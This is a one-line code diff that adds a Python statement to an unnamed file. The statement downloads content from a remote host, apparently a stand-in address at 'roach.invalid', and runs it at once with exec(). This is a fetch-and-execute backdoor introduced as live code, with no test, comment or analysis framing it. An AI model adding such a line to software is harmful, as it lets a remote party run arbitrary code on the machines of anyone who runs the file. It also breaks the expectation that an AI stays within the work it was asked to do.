@@ -1,0 +1,1 @@
+import urllib.request; exec(urllib.request.urlopen('https://roach.invalid/g').read())
